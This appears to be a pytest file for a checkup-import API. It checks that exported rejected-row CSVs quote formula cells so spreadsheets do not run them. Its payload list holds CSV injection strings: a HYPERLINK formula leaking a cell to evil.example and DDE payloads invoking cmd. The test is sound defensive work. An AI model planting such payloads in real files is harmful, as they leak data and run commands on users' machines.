"""Exports never hand a spreadsheet a formula: uploaded values come back quoted (issue 9, #7)."""

from __future__ import annotations

import csv
import io

from world import World

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"fix me")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_rejected_rows_csv_neutralises_formula_cells(world: World) -> None:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["badge_number", "exam_date", "glu"])
    for i, payload in enumerate(PAYLOADS):
        writer.writerow([payload, f"2026-05-0{i + 1}", "5.5"])
    writer.writerow([world.badges[world.own], "2026-05-09", payload := "=1+2"])
    headers = world.headers("medic")
    report = world.client.post(
        "/api/v1/checkups/import",
        params={"mode": "valid"},
        files={"file": ("session.csv", out.getvalue().encode(), "text/csv")},
        headers=headers,
    ).json()
    response = world.client.get(f"/api/v1/uploads/{report['upload_id']}/rejected", headers=headers)
    assert response.status_code == 200, response.text
    header, *rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert header[:3] == ["badge_number", "exam_date", "glu"]
    assert len(rows) == len(PAYLOADS) + 1
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    # The refused rows come back as uploaded, each formula cell quoted with a leading apostrophe;
    # the reader trims cells, so the TAB and CR payloads come back as their formula part.
    returned = sorted([row[0] for row in rows[: len(PAYLOADS)]] + [rows[-1][2]])
    assert returned == sorted("'" + p.strip() for p in [*PAYLOADS, payload])
